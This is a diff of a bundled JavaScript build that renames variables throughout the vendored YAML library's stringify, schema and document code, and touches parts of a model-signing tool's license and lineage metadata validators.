+          return str4 === "" ? "?" : explicitKey ? `? ${str4}` : str4;
         }
       } else if (allNullValues && !simpleKeys || value == null && explicitKey) {
-        str3 = `? ${str3}`;
+        str4 = `? ${str4}`;
         if (keyComment && !keyCommentDone) {
-          str3 += stringifyComment.lineComment(str3, ctx.indent, commentString(keyComment));
+          str4 += stringifyComment.lineComment(str4, ctx.indent, commentString(keyComment));
         } else if (chompKeep && onChompKeep)
           onChompKeep();
-        return str3;
+        return str4;
       }
       if (keyCommentDone)
         keyComment = null;
       if (explicitKey) {
         if (keyComment)
-          str3 += stringifyComment.lineComment(str3, ctx.indent, commentString(keyComment));
-        str3 = `? ${str3}
+          str4 += stringifyComment.lineComment(str4, ctx.indent, commentString(keyComment));
+        str4 = `? ${str4}
 ${indent}:`;
       } else {
-        str3 = `${str3}:`;
+        str4 = `${str4}:`;
         if (keyComment)
-          str3 += stringifyComment.lineComment(str3, ctx.indent, commentString(keyComment));
+          str4 += stringifyComment.lineComment(str4, ctx.indent, commentString(keyComment));
       }
       let vsb, vcb, valueComment;
       if (identity.isNode(value)) {
@@ -9021,7 +9024,7 @@ ${indent}:`;
       }
       ctx.implicitKey = false;
       if (!explicitKey && !keyComment && identity.isScalar(value))
-        ctx.indentAtStart = str3.length + 1;
+        ctx.indentAtStart = str4.length + 1;
       chompKeep = false;
       if (!indentSeq && indentStep.length >= 2 && !ctx.inFlow && !explicitKey && identity.isSeq(value) && !value.flow && !value.tag && !value.anchor) {
         ctx.indent = ctx.indent.substring(2);
@@ -9065,16 +9068,16 @@ ${ctx.indent}`;
       } else if (valueStr === "" || valueStr[0] === "\n") {
         ws2 = "";
       }
-      str3 += ws2 + valueStr;
+      str4 += ws2 + valueStr;
       if (ctx.inFlow) {
         if (valueCommentDone && onComment)
           onComment();
       } else if (valueComment && !valueCommentDone) {
-        str3 += stringifyComment.lineComment(str3, ctx.indent, commentString(valueComment));
+        str4 += stringifyComment.lineComment(str4, ctx.indent, commentString(valueComment));
       } else if (chompKeep && onChompKeep) {
         onChompKeep();
       }
-      return str3;
+      return str4;
     }
     exports.stringifyPair = stringifyPair;
   }
@@ -9301,31 +9304,31 @@ var require_stringifyCollection = __commonJS({
           }
         }
         chompKeep = false;
-        let str4 = stringify.stringify(item, itemCtx, () => comment2 = null, () => chompKeep = true);
+        let str5 = stringify.stringify(item, itemCtx, () => comment2 = null, () => chompKeep = true);
         if (comment2)
-          str4 += stringifyComment.lineComment(str4, itemIndent, commentString(comment2));
+          str5 += stringifyComment.lineComment(str5, itemIndent, commentString(comment2));
         if (chompKeep && comment2)
           chompKeep = false;
-        lines.push(blockItemPrefix + str4);
+        lines.push(blockItemPrefix + str5);
       }
-      let str3;
+      let str4;
       if (lines.length === 0) {
-        str3 = flowChars.start + flowChars.end;
+        str4 = flowChars.start + flowChars.end;
       } else {
-        str3 = lines[0];
+        str4 = lines[0];
         for (let i = 1; i < lines.length; ++i) {
           const line = lines[i];
-          str3 += line ? `
+          str4 += line ? `
 ${indent}${line}` : "\n";
         }
       }
       if (comment) {
-        str3 += "\n" + stringifyComment.indentComment(commentString(comment), indent);
+        str4 += "\n" + stringifyComment.indentComment(commentString(comment), indent);
         if (onComment)
           onComment();
       } else if (chompKeep && onChompKeep)
         onChompKeep();
-      return str3;
+      return str4;
     }
     function stringifyFlowCollection({ items }, ctx, { flowChars, itemIndent }) {
       const { indent, indentStep, flowCollectionPadding: fcPadding, options: { commentString } } = ctx;
@@ -9368,21 +9371,21 @@ ${indent}${line}` : "\n";
         }
         if (comment)
           reqNewline = true;
-        let str3 = stringify.stringify(item, itemCtx, () => comment = null);
-        reqNewline || (reqNewline = lines.length > linesAtValue || str3.includes("\n"));
+        let str4 = stringify.stringify(item, itemCtx, () => comment = null);
+        reqNewline || (reqNewline = lines.length > linesAtValue || str4.includes("\n"));
         if (i < items.length - 1) {
-          str3 += ",";
+          str4 += ",";
         } else if (ctx.options.trailingComma) {
           if (ctx.options.lineWidth > 0) {
-            reqNewline || (reqNewline = lines.reduce((sum, line) => sum + line.length + 2, 2) + (str3.length + 2) > ctx.options.lineWidth);
+            reqNewline || (reqNewline = lines.reduce((sum, line) => sum + line.length + 2, 2) + (str4.length + 2) > ctx.options.lineWidth);
           }
           if (reqNewline) {
-            str3 += ",";
+            str4 += ",";
           }
         }
         if (comment)
-          str3 += stringifyComment.lineComment(str3, itemIndent, commentString(comment));
-        lines.push(str3);
+          str4 += stringifyComment.lineComment(str4, itemIndent, commentString(comment));
+        lines.push(str4);
         linesAtValue = lines.length;
       }
       const { start, end } = flowChars;
@@ -9394,11 +9397,11 @@ ${indent}${line}` : "\n";
           reqNewline = ctx.options.lineWidth > 0 && len > ctx.options.lineWidth;
         }
         if (reqNewline) {
-          let str3 = start;
+          let str4 = start;
           for (const line of lines)
-            str3 += line ? `
+            str4 += line ? `
 ${indentStep}${indent}${line}` : "\n";
-          return `${str3}
+          return `${str4}
 ${indent}${end}`;
         } else {
           return `${start}${fcPadding}${lines.join(" ")}${fcPadding}${end}`;
@@ -9730,7 +9733,7 @@ var require_string = __commonJS({
       identify: (value) => typeof value === "string",
       default: true,
       tag: "tag:yaml.org,2002:str",
-      resolve: (str3) => str3,
+      resolve: (str4) => str4,
       stringify(item, ctx, onComment, onChompKeep) {
         ctx = Object.assign({ actualString: true }, ctx);
         return stringifyString.stringifyString(item, ctx, onComment, onChompKeep);
@@ -9768,7 +9771,7 @@ var require_bool = __commonJS({
       default: true,
       tag: "tag:yaml.org,2002:bool",
       test: /^(?:[Tt]rue|TRUE|[Ff]alse|FALSE)$/,
-      resolve: (str3) => new Scalar.Scalar(str3[0] === "t" || str3[0] === "T"),
+      resolve: (str4) => new Scalar.Scalar(str4[0] === "t" || str4[0] === "T"),
       stringify({ source, value }, ctx) {
         if (source && boolTag.test.test(source)) {
           const sv = source[0] === "t" || source[0] === "T";
@@ -9820,7 +9823,7 @@ var require_float = __commonJS({
       default: true,
       tag: "tag:yaml.org,2002:float",
       test: /^(?:[-+]?\.(?:inf|Inf|INF)|\.nan|\.NaN|\.NAN)$/,
-      resolve: (str3) => str3.slice(-3).toLowerCase() === "nan" ? NaN : str3[0] === "-" ? Number.NEGATIVE_INFINITY : Number.POSITIVE_INFINITY,
+      resolve: (str4) => str4.slice(-3).toLowerCase() === "nan" ? NaN : str4[0] === "-" ? Number.NEGATIVE_INFINITY : Number.POSITIVE_INFINITY,
       stringify: stringifyNumber.stringifyNumber
     };
     var floatExp = {
@@ -9829,7 +9832,7 @@ var require_float = __commonJS({
       tag: "tag:yaml.org,2002:float",
       format: "EXP",
       test: /^[-+]?(?:\.[0-9]+|[0-9]+(?:\.[0-9]*)?)[eE][-+]?[0-9]+$/,
-      resolve: (str3) => parseFloat(str3),
+      resolve: (str4) => parseFloat(str4),
       stringify(node) {
         const num = Number(node.value);
         return isFinite(num) ? num.toExponential() : stringifyNumber.stringifyNumber(node);
@@ -9840,11 +9843,11 @@ var require_float = __commonJS({
       default: true,
       tag: "tag:yaml.org,2002:float",
       test: /^[-+]?(?:\.[0-9]+|[0-9]+\.[0-9]*)$/,
-      resolve(str3) {
-        const node = new Scalar.Scalar(parseFloat(str3));
-        const dot = str3.indexOf(".");
-        if (dot !== -1 && str3[str3.length - 1] === "0")
-          node.minFractionDigits = str3.length - dot - 1;
+      resolve(str4) {
+        const node = new Scalar.Scalar(parseFloat(str4));
+        const dot = str4.indexOf(".");
+        if (dot !== -1 && str4[str4.length - 1] === "0")
+          node.minFractionDigits = str4.length - dot - 1;
         return node;
       },
       stringify: stringifyNumber.stringifyNumber
@@ -9861,7 +9864,7 @@ var require_int = __commonJS({
     "use strict";
     var stringifyNumber = require_stringifyNumber();
     var intIdentify = (value) => typeof value === "bigint" || Number.isInteger(value);
-    var intResolve = (str3, offset, radix, { intAsBigInt }) => intAsBigInt ? BigInt(str3) : parseInt(str3.substring(offset), radix);
+    var intResolve = (str4, offset, radix, { intAsBigInt }) => intAsBigInt ? BigInt(str4) : parseInt(str4.substring(offset), radix);
     function intStringify(node, radix, prefix) {
       const { value } = node;
       if (intIdentify(value) && value >= 0)
@@ -9874,7 +9877,7 @@ var require_int = __commonJS({
       tag: "tag:yaml.org,2002:int",
       format: "OCT",
       test: /^0o[0-7]+$/,
-      resolve: (str3, _onError, opt) => intResolve(str3, 2, 8, opt),
+      resolve: (str4, _onError, opt) => intResolve(str4, 2, 8, opt),
       stringify: (node) => intStringify(node, 8, "0o")
     };
     var int = {
@@ -9882,7 +9885,7 @@ var require_int = __commonJS({
       default: true,
       tag: "tag:yaml.org,2002:int",
       test: /^[-+]?[0-9]+$/,
-      resolve: (str3, _onError, opt) => intResolve(str3, 0, 10, opt),
+      resolve: (str4, _onError, opt) => intResolve(str4, 0, 10, opt),
       stringify: stringifyNumber.stringifyNumber
     };
     var intHex = {
@@ -9891,7 +9894,7 @@ var require_int = __commonJS({
       tag: "tag:yaml.org,2002:int",
       format: "HEX",
       test: /^0x[0-9a-fA-F]+$/,
-      resolve: (str3, _onError, opt) => intResolve(str3, 2, 16, opt),
+      resolve: (str4, _onError, opt) => intResolve(str4, 2, 16, opt),
       stringify: (node) => intStringify(node, 16, "0x")
     };
     exports.int = int;
@@ -9944,7 +9947,7 @@ var require_schema2 = __commonJS({
         identify: (value) => typeof value === "string",
         default: true,
         tag: "tag:yaml.org,2002:str",
-        resolve: (str3) => str3,
+        resolve: (str4) => str4,
         stringify: stringifyJSON
       },
       {
@@ -9961,7 +9964,7 @@ var require_schema2 = __commonJS({
         default: true,
         tag: "tag:yaml.org,2002:bool",
         test: /^true$|^false$/,
-        resolve: (str3) => str3 === "true",
+        resolve: (str4) => str4 === "true",
         stringify: stringifyJSON
       },
       {
@@ -9969,7 +9972,7 @@ var require_schema2 = __commonJS({
         default: true,
         tag: "tag:yaml.org,2002:int",
         test: /^-?(?:0|[1-9][0-9]*)$/,
-        resolve: (str3, _onError, { intAsBigInt }) => intAsBigInt ? BigInt(str3) : parseInt(str3, 10),
+        resolve: (str4, _onError, { intAsBigInt }) => intAsBigInt ? BigInt(str4) : parseInt(str4, 10),
         stringify: ({ value }) => intIdentify(value) ? value.toString() : JSON.stringify(value)
       },
       {
@@ -9977,7 +9980,7 @@ var require_schema2 = __commonJS({
         default: true,
         tag: "tag:yaml.org,2002:float",
         test: /^-?(?:0|[1-9][0-9]*)(?:\.[0-9]*)?(?:[eE][-+]?[0-9]+)?$/,
-        resolve: (str3) => parseFloat(str3),
+        resolve: (str4) => parseFloat(str4),
         stringify: stringifyJSON
       }
     ];
@@ -9985,9 +9988,9 @@ var require_schema2 = __commonJS({
       default: true,
       tag: "",
       test: /^/,
-      resolve(str3, onError) {
-        onError(`Unresolved plain scalar ${JSON.stringify(str3)}`);
-        return str3;
+      resolve(str4, onError) {
+        onError(`Unresolved plain scalar ${JSON.stringify(str4)}`);
+        return str4;
       }
     };
     var schema = [map.map, seq.seq].concat(jsonScalars, jsonError);
@@ -10019,10 +10022,10 @@ var require_binary = __commonJS({
         if (typeof node_buffer.Buffer === "function") {
           return node_buffer.Buffer.from(src, "base64");
         } else if (typeof atob === "function") {
-          const str3 = atob(src.replace(/[\n\r]/g, ""));
-          const buffer = new Uint8Array(str3.length);
-          for (let i = 0; i < str3.length; ++i)
-            buffer[i] = str3.charCodeAt(i);
+          const str4 = atob(src.replace(/[\n\r]/g, ""));
+          const buffer = new Uint8Array(str4.length);
+          for (let i = 0; i < str4.length; ++i)
+            buffer[i] = str4.charCodeAt(i);
           return buffer;
         } else {
           onError("This environment does not support reading binary tags; either Buffer or atob is required");
@@ -10033,28 +10036,28 @@ var require_binary = __commonJS({
         if (!value)
           return "";
         const buf = value;
-        let str3;
+        let str4;
         if (typeof node_buffer.Buffer === "function") {
-          str3 = buf instanceof node_buffer.Buffer ? buf.toString("base64") : node_buffer.Buffer.from(buf.buffer).toString("base64");
+          str4 = buf instanceof node_buffer.Buffer ? buf.toString("base64") : node_buffer.Buffer.from(buf.buffer).toString("base64");
         } else if (typeof btoa === "function") {
           let s3 = "";
           for (let i = 0; i < buf.length; ++i)
             s3 += String.fromCharCode(buf[i]);
-          str3 = btoa(s3);
+          str4 = btoa(s3);
         } else {
           throw new Error("This environment does not support writing binary tags; either Buffer or btoa is required");
         }
         type ?? (type = Scalar.Scalar.BLOCK_LITERAL);
         if (type !== Scalar.Scalar.QUOTE_DOUBLE) {
           const lineWidth = Math.max(ctx.options.lineWidth - ctx.indent.length, ctx.options.minContentWidth);
-          const n = Math.ceil(str3.length / lineWidth);
+          const n = Math.ceil(str4.length / lineWidth);
           const lines = new Array(n);
           for (let i = 0, o = 0; i < n; ++i, o += lineWidth) {
-            lines[i] = str3.substr(o, lineWidth);
+            lines[i] = str4.substr(o, lineWidth);
           }
-          str3 = lines.join(type === Scalar.Scalar.BLOCK_LITERAL ? "\n" : " ");
+          str4 = lines.join(type === Scalar.Scalar.BLOCK_LITERAL ? "\n" : " ");
         }
-        return stringifyString.stringifyString({ comment, type, value: str3 }, ctx, onComment, onChompKeep);
+        return stringifyString.stringifyString({ comment, type, value: str4 }, ctx, onComment, onChompKeep);
       }
     };
     exports.binary = binary;
@@ -10260,7 +10263,7 @@ var require_float2 = __commonJS({
       default: true,
       tag: "tag:yaml.org,2002:float",
       test: /^(?:[-+]?\.(?:inf|Inf|INF)|\.nan|\.NaN|\.NAN)$/,
-      resolve: (str3) => str3.slice(-3).toLowerCase() === "nan" ? NaN : str3[0] === "-" ? Number.NEGATIVE_INFINITY : Number.POSITIVE_INFINITY,
+      resolve: (str4) => str4.slice(-3).toLowerCase() === "nan" ? NaN : str4[0] === "-" ? Number.NEGATIVE_INFINITY : Number.POSITIVE_INFINITY,
       stringify: stringifyNumber.stringifyNumber
     };
     var floatExp = {
@@ -10269,7 +10272,7 @@ var require_float2 = __commonJS({
       tag: "tag:yaml.org,2002:float",
       format: "EXP",
       test: /^[-+]?(?:[0-9][0-9_]*)?(?:\.[0-9_]*)?[eE][-+]?[0-9]+$/,
-      resolve: (str3) => parseFloat(str3.replace(/_/g, "")),
+      resolve: (str4) => parseFloat(str4.replace(/_/g, "")),
       stringify(node) {
         const num = Number(node.value);
         return isFinite(num) ? num.toExponential() : stringifyNumber.stringifyNumber(node);
@@ -10280,11 +10283,11 @@ var require_float2 = __commonJS({
       default: true,
       tag: "tag:yaml.org,2002:float",
       test: /^[-+]?(?:[0-9][0-9_]*)?\.[0-9_]*$/,
-      resolve(str3) {
-        const node = new Scalar.Scalar(parseFloat(str3.replace(/_/g, "")));
-        const dot = str3.indexOf(".");
+      resolve(str4) {
+        const node = new Scalar.Scalar(parseFloat(str4.replace(/_/g, "")));
+        const dot = str4.indexOf(".");
         if (dot !== -1) {
-          const f2 = str3.substring(dot + 1).replace(/_/g, "");
+          const f2 = str4.substring(dot + 1).replace(/_/g, "");
           if (f2[f2.length - 1] === "0")
             node.minFractionDigits = f2.length;
         }
@@ -10304,34 +10307,34 @@ var require_int2 = __commonJS({
     "use strict";
     var stringifyNumber = require_stringifyNumber();
     var intIdentify = (value) => typeof value === "bigint" || Number.isInteger(value);
-    function intResolve(str3, offset, radix, { intAsBigInt }) {
-      const sign2 = str3[0];
+    function intResolve(str4, offset, radix, { intAsBigInt }) {
+      const sign2 = str4[0];
       if (sign2 === "-" || sign2 === "+")
         offset += 1;
-      str3 = str3.substring(offset).replace(/_/g, "");
+      str4 = str4.substring(offset).replace(/_/g, "");
       if (intAsBigInt) {
         switch (radix) {
           case 2:
-            str3 = `0b${str3}`;
+            str4 = `0b${str4}`;
             break;
           case 8:
-            str3 = `0o${str3}`;
+            str4 = `0o${str4}`;
             break;
           case 16:
-            str3 = `0x${str3}`;
+            str4 = `0x${str4}`;
             break;
         }
-        const n2 = BigInt(str3);
+        const n2 = BigInt(str4);
         return sign2 === "-" ? BigInt(-1) * n2 : n2;
       }
-      const n = parseInt(str3, radix);
+      const n = parseInt(str4, radix);
       return sign2 === "-" ? -1 * n : n;
     }
     function intStringify(node, radix, prefix) {
       const { value } = node;
       if (intIdentify(value)) {
-        const str3 = value.toString(radix);
-        return value < 0 ? "-" + prefix + str3.substr(1) : prefix + str3;
+        const str4 = value.toString(radix);
+        return value < 0 ? "-" + prefix + str4.substr(1) : prefix + str4;
       }
       return stringifyNumber.stringifyNumber(node);
     }
@@ -10341,7 +10344,7 @@ var require_int2 = __commonJS({
       tag: "tag:yaml.org,2002:int",
       format: "BIN",
       test: /^[-+]?0b[0-1_]+$/,
-      resolve: (str3, _onError, opt) => intResolve(str3, 2, 2, opt),
+      resolve: (str4, _onError, opt) => intResolve(str4, 2, 2, opt),
       stringify: (node) => intStringify(node, 2, "0b")
     };
     var intOct = {
@@ -10350,7 +10353,7 @@ var require_int2 = __commonJS({
       tag: "tag:yaml.org,2002:int",
       format: "OCT",
       test: /^[-+]?0[0-7_]+$/,
-      resolve: (str3, _onError, opt) => intResolve(str3, 1, 8, opt),
+      resolve: (str4, _onError, opt) => intResolve(str4, 1, 8, opt),
       stringify: (node) => intStringify(node, 8, "0")
     };
     var int = {
@@ -10358,7 +10361,7 @@ var require_int2 = __commonJS({
       default: true,
       tag: "tag:yaml.org,2002:int",
       test: /^[-+]?[0-9][0-9_]*$/,
-      resolve: (str3, _onError, opt) => intResolve(str3, 0, 10, opt),
+      resolve: (str4, _onError, opt) => intResolve(str4, 0, 10, opt),
       stringify: stringifyNumber.stringifyNumber
     };
     var intHex = {
@@ -10367,7 +10370,7 @@ var require_int2 = __commonJS({
       tag: "tag:yaml.org,2002:int",
       format: "HEX",
       test: /^[-+]?0x[0-9a-fA-F_]+$/,
-      resolve: (str3, _onError, opt) => intResolve(str3, 2, 16, opt),
+      resolve: (str4, _onError, opt) => intResolve(str4, 2, 16, opt),
       stringify: (node) => intStringify(node, 16, "0x")
     };
     exports.int = int;
@@ -10471,9 +10474,9 @@ var require_timestamp = __commonJS({
   "node_modules/yaml/dist/schema/yaml-1.1/timestamp.js"(exports) {
     "use strict";
     var stringifyNumber = require_stringifyNumber();
-    function parseSexagesimal(str3, asBigInt) {
-      const sign2 = str3[0];
-      const parts = sign2 === "-" || sign2 === "+" ? str3.substring(1) : str3;
+    function parseSexagesimal(str4, asBigInt) {
+      const sign2 = str4[0];
+      const parts = sign2 === "-" || sign2 === "+" ? str4.substring(1) : str4;
       const num = (n) => asBigInt ? BigInt(n) : Number(n);
       const res = parts.replace(/_/g, "").split(":").reduce((res2, p2) => res2 * num(60) + num(p2), num(0));
       return sign2 === "-" ? num(-1) * res : res;
@@ -10510,7 +10513,7 @@ var require_timestamp = __commonJS({
       tag: "tag:yaml.org,2002:int",
       format: "TIME",
       test: /^[-+]?[0-9][0-9_]*(?::[0-5]?[0-9])+$/,
-      resolve: (str3, _onError, { intAsBigInt }) => parseSexagesimal(str3, intAsBigInt),
+      resolve: (str4, _onError, { intAsBigInt }) => parseSexagesimal(str4, intAsBigInt),
       stringify: stringifySexagesimal
     };
     var floatTime = {
@@ -10519,7 +10522,7 @@ var require_timestamp = __commonJS({
       tag: "tag:yaml.org,2002:float",
       format: "TIME",
       test: /^[-+]?[0-9][0-9_]*(?::[0-5]?[0-9])+\.[0-9_]*$/,
-      resolve: (str3) => parseSexagesimal(str3, false),
+      resolve: (str4) => parseSexagesimal(str4, false),
       stringify: stringifySexagesimal
     };
     var timestamp = {
@@ -10530,8 +10533,8 @@ var require_timestamp = __commonJS({
       // may be omitted altogether, resulting in a date format. In such a case, the time part is
       // assumed to be 00:00:00Z (start of day, UTC).
       test: RegExp("^([0-9]{4})-([0-9]{1,2})-([0-9]{1,2})(?:(?:t|T|[ \\t]+)([0-9]{1,2}):([0-9]{1,2}):([0-9]{1,2}(\\.[0-9]+)?)(?:[ \\t]*(Z|[-+][012]?[0-9](?::[0-9]{2})?))?)?$"),
-      resolve(str3) {
-        const match = str3.match(timestamp.test);
+      resolve(str4) {
+        const match = str4.match(timestamp.test);
         if (!match)
           throw new Error("!!timestamp expects a date, starting with yyyy-mm-dd");
         const [, year, month, day, hour, minute, second] = match.map(Number);
@@ -10882,9 +10885,9 @@ var require_Document = __commonJS({
           this.contents.add(value);
       }
       /** Adds a value to the document. */
-      addIn(path25, value) {
+      addIn(path30, value) {
         if (assertCollection(this.contents))
-          this.contents.addIn(path25, value);
+          this.contents.addIn(path30, value);
       }
       /**
        * Create a new `Alias` node, ensuring that the target `node` has the required anchor.
@@ -10959,14 +10962,14 @@ var require_Document = __commonJS({
        * Removes a value from the document.
        * @returns `true` if the item was found and removed.
        */
-      deleteIn(path25) {
-        if (Collection.isEmptyPath(path25)) {
+      deleteIn(path30) {
+        if (Collection.isEmptyPath(path30)) {
           if (this.contents == null)
             return false;
           this.contents = null;
           return true;
         }
-        return assertCollection(this.contents) ? this.contents.deleteIn(path25) : false;
+        return assertCollection(this.contents) ? this.contents.deleteIn(path30) : false;
       }
       /**
        * Returns item at `key`, or `undefined` if not found. By default unwraps
@@ -10981,10 +10984,10 @@ var require_Document = __commonJS({
        * scalar values from their surrounding node; to disable set `keepScalar` to
        * `true` (collections are always returned intact).
        */
-      getIn(path25, keepScalar) {
-        if (Collection.isEmptyPath(path25))
+      getIn(path30, keepScalar) {
+        if (Collection.isEmptyPath(path30))
           return !keepScalar && identity.isScalar(this.contents) ? this.contents.value : this.contents;
-        return identity.isCollection(this.contents) ? this.contents.getIn(path25, keepScalar) : void 0;
+        return identity.isCollection(this.contents) ? this.contents.getIn(path30, keepScalar) : void 0;
       }
       /**
        * Checks if the document includes a value with the key `key`.
@@ -10995,10 +10998,10 @@ var require_Document = __commonJS({
       /**
        * Checks if the document includes a value at `path`.
        */
-      hasIn(path25) {
-        if (Collection.isEmptyPath(path25))
+      hasIn(path30) {
+        if (Collection.isEmptyPath(path30))
           return this.contents !== void 0;
-        return identity.isCollection(this.contents) ? this.contents.hasIn(path25) : false;
+        return identity.isCollection(this.contents) ? this.contents.hasIn(path30) : false;
       }
       /**
        * Sets a value in this document. For `!!set`, `value` needs to be a
@@ -11015,13 +11018,13 @@ var require_Document = __commonJS({
        * Sets a value in this document. For `!!set`, `value` needs to be a
        * boolean to add/remove the item from the set.
        */
-      setIn(path25, value) {
-        if (Collection.isEmptyPath(path25)) {
+      setIn(path30, value) {
+        if (Collection.isEmptyPath(path30)) {
           this.contents = value;
         } else if (this.contents == null) {
-          this.contents = Collection.collectionFromPath(this.schema, Array.from(path25), value);
+          this.contents = Collection.collectionFromPath(this.schema, Array.from(path30), value);
         } else if (assertCollection(this.contents)) {
-          this.contents.setIn(path25, value);
+          this.contents.setIn(path30, value);
         }
       }
       /**
@@ -12982,9 +12985,9 @@ var require_cst_visit = __commonJS({
     visit.BREAK = BREAK;
     visit.SKIP = SKIP;
     visit.REMOVE = REMOVE;
-    visit.itemAtPath = (cst, path25) => {
+    visit.itemAtPath = (cst, path30) => {
       let item = cst;
-      for (const [field, index] of path25) {
+      for (const [field, index] of path30) {
         const tok = item?.[field];
         if (tok && "items" in tok) {
           item = tok.items[index];
@@ -12993,23 +12996,23 @@ var require_cst_visit = __commonJS({
       }
       return item;
     };
-    visit.parentCollection = (cst, path25) => {
-      const parent = visit.itemAtPath(cst, path25.slice(0, -1));
-      const field = path25[path25.length - 1][0];
+    visit.parentCollection = (cst, path30) => {
+      const parent = visit.itemAtPath(cst, path30.slice(0, -1));
+      const field = path30[path30.length - 1][0];
       const coll = parent?.[field];
       if (coll && "items" in coll)
         return coll;
       throw new Error("Parent collection not found");
     };
-    function _visit(path25, item, visitor) {
-      let ctrl = visitor(item, path25);
+    function _visit(path30, item, visitor) {
+      let ctrl = visitor(item, path30);
       if (typeof ctrl === "symbol")
         return ctrl;
       for (const field of ["key", "value"]) {
         const token = item[field];
         if (token && "items" in token) {
           for (let i = 0; i < token.items.length; ++i) {
-            const ci2 = _visit(Object.freeze(path25.concat([[field, i]])), token.items[i], visitor);
+            const ci2 = _visit(Object.freeze(path30.concat([[field, i]])), token.items[i], visitor);
             if (typeof ci2 === "number")
               i = ci2 - 1;
             else if (ci2 === BREAK)
@@ -13020,10 +13023,10 @@ var require_cst_visit = __commonJS({
             }
           }
           if (typeof ctrl === "function" && field === "key")
-            ctrl = ctrl(item, path25);
+            ctrl = ctrl(item, path30);
         }
       }
-      return typeof ctrl === "function" ? ctrl(item, path25) : ctrl;
+      return typeof ctrl === "function" ? ctrl(item, path30) : ctrl;
     }
     exports.visit = visit;
   }
@@ -16850,8 +16853,8 @@ function normalizeLicense(raw) {
   if (raw !== void 0 && raw !== null && typeof raw !== "string") return { raw: JSON.stringify(raw)?.slice(0, 80) ?? typeof raw, spdx: void 0, node: void 0, known: false };
   const text = typeof raw === "string" ? raw.trim() : "";
   if (text === "") return { raw: NO_LICENSE, spdx: refId(NO_LICENSE), node: { license: refId(NO_LICENSE) }, known: false };
-  const bad5 = { raw: text, spdx: void 0, node: void 0, known: false };
-  if (text.length > MAX_LICENSE_LENGTH) return bad5;
+  const bad7 = { raw: text, spdx: void 0, node: void 0, known: false };
+  if (text.length > MAX_LICENSE_LENGTH) return bad7;
   const tokens = licenseTokens(text);
   const out2 = [];
   let known = true;
@@ -16862,12 +16865,12 @@ function normalizeLicense(raw) {
       out2.push(upper);
     } else if (upper === "WITH") {
       const ex = SPDX_EXCEPTIONS.get((tokens[i + 1] ?? "").toLowerCase());
-      if (!ex) return bad5;
+      if (!ex) return bad7;
       out2.push("WITH", ex);
       i++;
     } else {
       const c = canonicalId(t);
-      if (!c) return bad5;
+      if (!c) return bad7;
       known &&= c.known;
       out2.push(c.id);
     }
@@ -16876,7 +16879,7 @@ function normalizeLicense(raw) {
   try {
     return { raw: text, spdx, node: (0, import_spdx_expression_parse.default)(spdx), known };
   } catch {
-    return bad5;
+    return bad7;
   }
 }
 function termText(t) {
@@ -16988,45 +16991,45 @@ function bareHex(digest) {
 function hasControl(s3) {
   return /[\u0000-\u001f\u007f]/.test(s3);
 }
-function onlyKeys(o, allowed, what, bad5) {
-  for (const k2 of Object.keys(o)) if (!allowed.includes(k2)) bad5(`${what} has an unknown field "${k2.slice(0, 40)}"`);
+function onlyKeys(o, allowed, what, bad7) {
+  for (const k2 of Object.keys(o)) if (!allowed.includes(k2)) bad7(`${what} has an unknown field "${k2.slice(0, 40)}"`);
 }
-function parseLineageMeta(v2, where = "lineage") {
+function parseLineageMeta(v2, where2 = "lineage") {
   if (v2 === void 0) return void 0;
-  const bad5 = (m2) => {
-    throw reject("LINEAGE_MALFORMED", `${where}: ${m2}`);
+  const bad7 = (m2) => {
+    throw reject("LINEAGE_MALFORMED", `${where2}: ${m2}`);
   };
-  if (!isObject(v2)) bad5("annotations.modelsign.lineage must be an object");
+  if (!isObject(v2)) bad7("annotations.modelsign.lineage must be an object");
   const o = v2;
-  onlyKeys(o, ["parents", "datasets"], "lineage", bad5);
-  if (!Array.isArray(o.parents)) bad5("lineage.parents must be an array");
+  onlyKeys(o, ["parents", "datasets"], "lineage", bad7);
+  if (!Array.isArray(o.parents)) bad7("lineage.parents must be an array");
   const ps2 = o.parents;
-  if (ps2.length > MAX_PARENTS) bad5(`more than ${MAX_PARENTS} parents`);
+  if (ps2.length > MAX_PARENTS) bad7(`more than ${MAX_PARENTS} parents`);
   const parents = ps2.map((p2, i) => {
-    if (!isObject(p2)) bad5(`parents[${i}] must be an object`);
+    if (!isObject(p2)) bad7(`parents[${i}] must be an object`);
     const q2 = p2;
-    onlyKeys(q2, ["name", "version", "rootDigest", "bundleDigest", "relation"], `parents[${i}]`, bad5);
+    onlyKeys(q2, ["name", "version", "rootDigest", "bundleDigest", "relation"], `parents[${i}]`, bad7);
     const { name: name2, version, rootDigest: rootDigest2, bundleDigest, relation } = q2;
-    if (typeof name2 !== "string" || name2.length === 0 || name2.length > MAX_NAME_LENGTH || hasControl(name2)) bad5(`parents[${i}].name must be a non-empty string of at most ${MAX_NAME_LENGTH} characters`);
-    if (typeof version !== "string" || version.length > MAX_NAME_LENGTH || import_semver.default.valid(version) !== version) bad5(`parents[${i}].version must be a semantic version like 1.2.0`);
-    if (typeof rootDigest2 !== "string" || !DIGEST_RE.test(rootDigest2)) bad5(`parents[${i}].rootDigest must be sha256:<64 lowercase hex>`);
-    if (typeof bundleDigest !== "string" || !DIGEST_RE.test(bundleDigest)) bad5(`parents[${i}].bundleDigest must be sha256:<64 lowercase hex>`);
-    if (!isRelation(relation)) bad5(`parents[${i}].relation must be one of ${RELATIONS.join(", ")}`);
+    if (typeof name2 !== "string" || name2.length === 0 || name2.length > MAX_NAME_LENGTH || hasControl(name2)) bad7(`parents[${i}].name must be a non-empty string of at most ${MAX_NAME_LENGTH} characters`);
+    if (typeof version !== "string" || version.length > MAX_NAME_LENGTH || import_semver.default.valid(version) !== version) bad7(`parents[${i}].version must be a semantic version like 1.2.0`);
+    if (typeof rootDigest2 !== "string" || !DIGEST_RE.test(rootDigest2)) bad7(`parents[${i}].rootDigest must be sha256:<64 lowercase hex>`);
+    if (typeof bundleDigest !== "string" || !DIGEST_RE.test(bundleDigest)) bad7(`parents[${i}].bundleDigest must be sha256:<64 lowercase hex>`);
+    if (!isRelation(relation)) bad7(`parents[${i}].relation must be one of ${RELATIONS.join(", ")}`);
     return { name: name2, version, rootDigest: rootDigest2, bundleDigest, relation };
   });
   const out2 = { parents };
   if (o.datasets !== void 0) {
-    if (!Array.isArray(o.datasets)) bad5("lineage.datasets must be an array");
+    if (!Array.isArray(o.datasets)) bad7("lineage.datasets must be an array");
     const ds2 = o.datasets;
-    if (ds2.length > MAX_DATASETS) bad5(`more than ${MAX_DATASETS} datasets`);
+    if (ds2.length > MAX_DATASETS) bad7(`more than ${MAX_DATASETS} datasets`);
     out2.datasets = ds2.map((d, i) => {
